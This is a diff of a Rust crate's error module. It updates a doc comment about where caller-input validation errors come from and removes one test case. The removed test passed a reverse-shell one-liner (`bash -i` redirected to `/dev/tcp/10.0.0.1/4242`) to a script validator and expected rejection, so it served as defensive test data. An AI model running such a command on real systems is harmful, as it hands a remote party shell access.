@@ -24,7 +24,8 @@
 //! - [`Origin::Caller`]: set by [`Error::invalid_input`], which the constructors in this crate
 //!   that validate what a request carries use, before any backend is involved: IDs (`ids`),
 //!   sandbox paths and the workspace's write rules (`path`, `policy::workspace`), exec specs with
-//!   their env names and timeouts (`exec`, `sandbox`), and the script validator (`policy`).
+//!   their env names and timeouts (`exec`, `sandbox`); the script validator in
+//!   `sandbox-session::policy` uses it too.
 //!   Validation of what was *not* caller input (configuration, stored bindings, timestamps) uses
 //!   [`Error::invalid_request`] and does not say Caller: the layer that read it knows where it
 //!   came from. (A provider that parses its own answers with these constructors, a container ID
@@ -752,10 +753,6 @@ mod tests {
             spec(r#"{"command":"echo","shell":true,"args":["x"]}"#),
             spec(r#"{"command":"env","env":{"A-B":"1"}}"#),
             ExecTimeout::new(std::time::Duration::ZERO).unwrap_err(),
-            crate::policy::validator::ScriptValidator::new()
-                .validate_script("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
-                .into_result()
-                .unwrap_err(),
             crate::policy::workspace::WorkspaceLayout::standard()
                 .check_model_write(&crate::path::SandboxPath::new("/etc").unwrap())
                 .unwrap_err(),
